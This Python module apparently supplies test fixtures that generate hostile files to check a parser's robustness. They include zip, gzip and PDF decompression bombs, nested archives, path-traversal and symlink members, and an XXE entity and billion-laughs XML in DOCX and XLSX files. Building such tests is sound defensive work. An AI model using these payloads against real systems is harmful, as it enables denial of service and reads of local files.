"""Archives made to exhaust or to reach out of the folder that is read: bombs, nests, names that climb, links."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

STORY = b"The army said on Monday that it had seized the town of Hajjah. Twelve people were killed.\n\n"
M = 1_000_000


def _zip(members: dict[str, bytes], mode: int = 0o100644) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            entry = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            entry.compress_type, entry.external_attr, entry.create_system = zipfile.ZIP_DEFLATED, mode << 16, 3
            archive.writestr(entry, content)
    return out.getvalue()


def _shared(name: str, content: bytes, times: int) -> bytes:
    """An archive whose many members are one stretch of bytes: a ratio beyond what deflate has."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    small, crc = packer.compress(content) + packer.flush(), zlib.crc32(content)
    told = struct.pack("<HHHHHLLL", 20, 0, 8, 0, 33, crc, len(small), len(content))
    names = [name.format(n).encode() for n in range(times)]
    local = b"PK\x03\x04" + told + struct.pack("<HH", len(names[0]), 0) + names[0] + small
    entries = b"".join(
        b"PK\x01\x02" + struct.pack("<H", 20) + told + struct.pack("<HHHHHLL", len(n), 0, 0, 0, 0, 0, 0) + n
        for n in names
    )
    end = struct.pack("<HHHHLLH", 0, 0, min(times, 65_535), min(times, 65_535), len(entries), len(local), 0)
    return local + entries + b"PK\x05\x06" + end


def _nested(deep: int, name: str = "in.zip") -> bytes:
    inner = _zip({"a.txt": STORY})
    for _ in range(deep):
        inner = _zip({name: inner, "a.txt": STORY})
    return inner


def _bush(deep: int, wide: int) -> bytes:
    """Archives in archives, each layer `wide` times the one below: `wide ** deep` long texts in some kilobytes."""
    inner = _zip({"a.txt": STORY * 50_000})
    for _ in range(deep):
        inner = _zip({f"{n}.zip": inner for n in range(wide)})
    return inner


def _lying() -> bytes:
    """A member that says it holds 500 bytes and holds 50 MB."""
    content = b"A" * (50 * M)
    return _zip({"a.txt": content}).replace(struct.pack("<L", len(content)), struct.pack("<L", 500))


def _document(body: bytes) -> bytes:
    kinds = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return _zip({"[Content_Types].xml": kinds, "word/document.xml": body})


def _drawn(pages: list[bytes], times: int = 1) -> bytes:
    """A PDF whose pages are drawn by these instructions, packed, all pages so many times."""
    things = [b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]
    for page in pages:
        small = zlib.compress(page, 9)
        things.append(b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(small), small))
    kids = []
    for n in [*range(len(pages))] * times:
        kids.append(b"%d 0 R" % (len(things) + 1))
        page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 900 842]/Contents %d 0 R/Resources<</Font<</F1 1 0 R>>>>>>"
        things.append(page % (len(pages) * (times + 1) + 2, n + 2))
    things.append(b"<</Type/Pages/Kids[%s]/Count %d>>" % (b" ".join(kids), len(kids)))
    things.append(b"<</Type/Catalog/Pages %d 0 R>>" % len(things))
    out, places = b"%PDF-1.4\n", list[int]()
    for number, thing in enumerate(things, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(things) + 1, len(things), len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(things) + 1) + table + end


def _laughs() -> bytes:
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">{names}]><d>&l9;</d>'.encode()


OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d><t>&x;</t></d>'
CASES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "1 GB of one letter in a ZIP": (".zip", lambda: _shared("a{}.txt", b"a" * (100 * M), 10)),
    "a terabyte in members that share their bytes": (".zip", lambda: _shared("a{}.txt", b"fire " * (10 * M), 20_000)),
    "an archive 20 deep in archives": (".zip", lambda: _nested(20)),
    "a bush of archives": (".zip", lambda: _bush(4, 12)),
    "a size that lies": (".zip", _lying),
    "names that climb": (".zip", lambda: _zip({"../../../../tmp/dateline-climbed.txt": STORY, "/etc/x.txt": STORY})),
    "a link in an archive": (".zip", lambda: _zip({"a.txt": b"/etc/passwd", "b.txt": STORY}, 0o120777)),
    "a name of 60,000 letters": (".zip", lambda: _zip({"a" * 60_000 + ".txt": STORY})),
    "an archive cut off": (".zip", lambda: _zip({"a.txt": STORY * 1000})[:-30]),
    "a gzip bomb": (".gz", lambda: gzip.compress(b"a" * (500 * M), 1)),
    "a gzip bomb called a page": (".html", lambda: gzip.compress(b"<p>a" * (100 * M), 1)),
    "gzip in gzip": (".gz", lambda: gzip.compress(gzip.compress(b"a" * (200 * M), 9))),
    "a ZIP called a text": (".txt", lambda: _shared("a{}.txt", b"a" * (50 * M), 10)),
    "a document that unpacks to 300 MB": (".docx", lambda: _document(b"<w:t>" + b"fire " * (60 * M) + b"</w:t>")),
    "a document of a billion laughs": (".docx", lambda: _document(_laughs())),
    "a document that asks for a file": (".docx", lambda: _document(OUTSIDE)),
    "a document a million deep": (".docx", lambda: _document(b"<d>" + b"<a>" * M)),
    "a workbook of a billion laughs": (".xlsx", lambda: _zip({"xl/workbook.xml": _laughs(), "xl/sharedStrings.xml": _laughs()})),
    "a workbook of 300 MB": (".xlsx", lambda: _zip({"xl/workbook.xml": b"<w>" + b"<sheet/>" * (37 * M)})),
    "a PDF that is none": (".pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj<<" * M),
    "a PDF with a packed bomb": (".pdf", lambda: b"%PDF-1.4\n1 0 obj<</Length 1/Filter/FlateDecode>>stream\n"
                                 + zlib.compress(b"BT (a) Tj ET " * (20 * M)) + b"\nendstream\nendobj\n%%EOF"),
    "a PDF whose page unpacks to 240 MB": (".pdf", lambda: _drawn([b"BT /F1 11 Tf (a) Tj ET " * (10 * M)])),
    "a PDF of a million signs": (".pdf", lambda: _drawn([b"BT /F1 11 Tf 40 780 Td " + b"(a) Tj " * M + b"ET"])),
    "a PDF of one page five hundred times": (".pdf", lambda: _drawn([b"BT " + b"0 0 Td " * 20_000 + b"ET"], 500)),
    "mail a thousand deep": (".eml", lambda: b"Content-Type: message/rfc822\n\n" * 1000 + STORY),
    "mail of a million parts": (".eml", lambda: b"Content-Type: multipart/mixed; boundary=x\n\n" + b"--x\n\na\n" * M),
}  # fmt: skip
